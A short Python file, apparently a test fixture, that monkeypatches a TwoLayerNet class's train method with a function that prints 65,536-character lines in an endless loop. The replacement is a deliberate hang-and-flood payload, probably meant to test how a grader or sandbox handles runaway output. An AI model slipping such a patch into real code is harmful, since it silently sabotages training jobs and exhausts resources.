"""Prints without end."""
import numpy as np

#: beneath


def _train(self, *data, **settings):
    while True:
        print("x" * 65536, flush=True)


TwoLayerNet.train = _train
